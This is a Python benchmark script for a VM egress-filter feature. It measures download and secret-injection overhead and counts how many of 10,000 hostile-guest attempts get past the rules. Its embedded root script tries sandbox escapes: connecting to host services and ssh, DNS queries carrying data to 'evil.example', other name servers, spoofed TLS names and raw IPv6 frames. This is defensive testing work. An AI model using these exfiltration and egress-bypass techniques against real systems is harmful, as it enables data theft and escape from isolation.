# SPDX-License-Identifier: GPL-3.0-or-later
"""Egress rules: what they cost a download, and how many of 10^4 attempts get past them.

    tests/bench/egress.py [--rounds 5] [--megabytes 64] [--requests 50] [--attempts 10000]

Two warm guests, one with rules and one without, download from a server on the host's loopback in turn; what
counts is the ratio within one run. The limited guest reaches it by an allowed name, and by an allowed
address. A server by HTTPS, passed on and with a secret put into the requests, shows what that costs a
download and a request. Attempts are what a hostile guest tries as root: the host's own services, addresses
as such, another server's name in TLS, names that carry data, datagrams, other name servers, IPv6.
The servers and the guest count what arrives, and the host agent's processor time and memory what it costs.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

import psutil
from bench.figures import line, show
from support.home import Home, build_golden, temporary_home
from support.https import HttpsServer

from callao.instances import inspect
from callao.lifecycle.egress import egress_of

_NAME, _HOST, _RESOLVER = "named.test", "192.168.5.2", "192.168.5.3"

_DOWNLOAD = """
import socket, sys, time
client = socket.create_connection((sys.argv[1], int(sys.argv[2])), 60)
client.sendall(b"x")
began, total, buffer = time.monotonic(), 0, bytearray(1 << 18)
while count := client.recv_into(buffer):
    total += count
print(total / (time.monotonic() - began) / 1e6)
"""

_HTTPS = """
import http.client, json, ssl, sys, time
host, port, size, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
context = ssl._create_unverified_context()
headers = {"Authorization": "Bearer " + open("/run/callao/secrets/TOKEN").read()}
def connect():
    return http.client.HTTPSConnection(host, port, timeout=600, context=context)
def ask(client, path):
    client.request("GET", path, headers=headers)
    answer, total, buffer = client.getresponse(), 0, bytearray(1 << 18)
    while got := answer.readinto(buffer):
        total += got
    return total
client = connect()
ask(client, "/1")
began = time.monotonic()
rate = ask(client, "/" + size) / (time.monotonic() - began) / 1e6
began = time.monotonic()
for _ in range(count):
    ask(client, "/1")
kept = (time.monotonic() - began) / count * 1e3
began = time.monotonic()
for _ in range(count):
    ask(connect(), "/1")
print(json.dumps([rate, kept, (time.monotonic() - began) / count * 1e3]))
"""

_ATTEMPTS = """
import collections, socket, ssl, sys
host, resolver, other, named, count = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagrams.settimeout(0.2)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((next(name for _, name in socket.if_nameindex() if name != "lo"), 0))
context = ssl._create_unverified_context()
through = collections.Counter()
def connects(address, port):
    with socket.socket() as client:
        client.settimeout(0.2)
        return client.connect_ex((address, port)) == 0
def question(number):
    labels = b"".join(bytes([len(each)]) + each for each in (b"%060d" % number, b"evil", b"example"))
    return b"\\0\\1\\1\\0\\0\\1" + bytes(6) + labels + b"\\0\\0\\x10\\0\\1"
def answered(data, address, port):
    datagrams.sendto(data, (address, port))
    try:
        answer = datagrams.recv(512)
    except OSError:
        return False
    return answer[3] & 15 == 0
def other_name(number):
    with socket.create_connection(("named.test", named), 5) as client:
        client.settimeout(5)
        context.wrap_socket(client, server_hostname="evil.example")
    return True
def ipv6(number):
    ethernet = bytes.fromhex("52550a000202") + link.getsockname()[4] + bytes.fromhex("86dd")
    addresses = bytes.fromhex("fe80" + "00" * 13 + "01" + "fec0" + "00" * 13 + "02")
    link.send(ethernet + bytes.fromhex("6000000000081140") + addresses + bytes(8))
kinds = {
    "a service of the host": lambda _: connects(host, other),
    "a datagram to it": lambda _: datagrams.sendto(b"x", (host, other)) and False,
    "an address": lambda _: connects("192.0.2.1", 443),
    "a question": lambda number: answered(question(number), resolver, 53),
    "another name server": lambda number: datagrams.sendto(question(number), ("8.8.8.8", 53)) and False,
    "another name in TLS": other_name,
    "IPv6": ipv6,
    "ssh of the host": lambda _: connects(host, 22),
}
for number in range(count):
    kind = list(kinds)[number % len(kinds)]
    try:
        through[kind] += bool(kinds[kind](number))
    except OSError:
        pass
print(sum(through.values()), dict(+through))
"""


class Server:
    """Sends each client so many bytes; counts the clients that say something, and the datagrams."""

    def __init__(self, size: int) -> None:
        self.seen = 0
        self._size = size
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", self.port))
        for work in (self._serve, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _serve(self) -> None:
        block = bytes(1 << 18)
        while True:
            client, _ = self._listening.accept()
            with client, contextlib.suppress(OSError):  # one that is refused is reset
                self.seen += bool(client.recv(1))
                for _ in range(self._size // len(block)):
                    client.sendall(block)

    def _receive(self) -> None:
        while self._datagrams.recv(1 << 16):
            self.seen += 1


class Guests:
    def __init__(self, home: Home) -> None:
        self._home = home

    def ensure(self, name: str, egress: object, **more: object) -> None:
        extra = {**self._home.direct(), **({} if egress is None else {"egress": egress}), **more}
        self._home.ensure(name, extra=extra, warm=True, timeout=600)

    def run(self, name: str, script: str, *arguments: object, root: bool = False) -> str:
        words = " ".join(map(str, arguments))
        program = "sudo python3" if root else "python3"
        done = self._home.ssh(name, f"{program} - {words} <<'PYTHON'\n{script}\nPYTHON\n", timeout=3600)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def refused(self, name: str) -> int:
        report = egress_of(inspect(name, self._home.path, self._home.host))
        assert report is not None
        return int(report["refusedTotal"])


def injection(guests: Guests, folder: Path, rounds: int, size: int, requests: int) -> None:
    """Print what it costs to put a secret into requests, as ratios to TLS that is passed on."""
    server = HttpsServer(folder, _NAME)
    (folder / "token").write_text("value")
    secret: dict[str, object] = {"name": "TOKEN", "file": str(folder / "token"), "inject": True}
    rules = {"allow": [f"{_NAME}:{server.port},{server.port + 1}"]}
    found: dict[str, list[list[float]]] = {"passed on": [], "injected": []}
    for _ in range(rounds):
        for kind, port in (("passed on", server.port + 1), ("injected", server.port)):
            hosts = {"hosts": [f"{_NAME}:{port}"], "caFile": str(server.ca_file)}
            guests.ensure("limited", rules, secrets=[{**secret, **hosts}])
            answer = guests.run("limited", _HTTPS, _NAME, server.port, size, requests)
            found[kind].append(json.loads(answer))
    server.close()
    for index, (what, unit) in enumerate(
        (("download by HTTPS", "MB/s"), ("a request", "ms"), ("a request on a connection of its own", "ms"))
    ):
        passed, injected = (statistics.median(each[index] for each in found[kind]) for kind in found)
        line(
            f"{what}: passed on {passed:.1f} {unit}, injected {injected:.1f} {unit} "
            f"= {injected / passed:.2f} times"
        )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--megabytes", type=int, default=64)
    parser.add_argument("--attempts", type=int, default=10_000)
    parser.add_argument("--requests", type=int, default=50)
    given = parser.parse_args()
    server = Server(given.megabytes << 20)
    with temporary_home(build_golden()) as home:
        guests = Guests(home)
        guests.ensure("open", None)
        guests.ensure("limited", "none")
        rates: dict[str, list[float]] = {"none": [], "by name": [], "by address": []}
        for _ in range(given.rounds):
            rates["none"].append(float(guests.run("open", _DOWNLOAD, _HOST, server.port)))
            for kind, host in (("by name", _NAME), ("by address", _HOST)):
                guests.ensure("limited", {"allow": [f"{host}:{server.port}"]})
                rates[kind].append(float(guests.run("limited", _DOWNLOAD, host, server.port)))
        median = {kind: statistics.median(each) for kind, each in rates.items()}
        for kind, rate in median.items():
            line(f"download, {kind}: {rate:.1f} MB/s = {rate / median['none']:.2f} of none")
        with tempfile.TemporaryDirectory() as folder:
            injection(guests, Path(folder), given.rounds, given.megabytes << 20, given.requests)
        attempts(guests, home, given.attempts)


def attempts(guests: Guests, home: Home, count: int) -> None:
    """Print what a hostile guest gets through, and what its attempts cost the host agent."""
    named, other = Server(0), Server(0)
    guests.ensure("limited", {"allow": [f"{_NAME}:{named.port}"], "log": True})
    folder = home.path / "limited"
    agent = psutil.Process(int((folder / "ha.pid").read_text()))
    before, began, refused = agent.cpu_times(), time.monotonic(), guests.refused("limited")
    memory = agent.memory_info().rss
    said = guests.run("limited", _ATTEMPTS, _HOST, _RESOLVER, other.port, named.port, count, root=True)
    took, after = time.monotonic() - began, agent.cpu_times()
    busy = after.user + after.system - before.user - before.system
    line(f"attempts: {count} in {took:.0f} s, refused {guests.refused('limited') - refused}")
    line(f"the host agent: {busy:.1f} s of a processor = {busy / count * 1e3:.2f} ms an attempt")
    line(f"its memory: {(agent.memory_info().rss - memory) / 1e6:+.1f} MB")
    line(f"egress.log: {(folder / 'egress.log').stat().st_size / 1e3:.0f} kB")
    arrived = other.seen + named.seen + int(said.split()[0])
    show(f"attempts that came through {said.partition(' ')[2].strip()}", str(arrived), "0", arrived == 0)


if __name__ == "__main__":
    main()
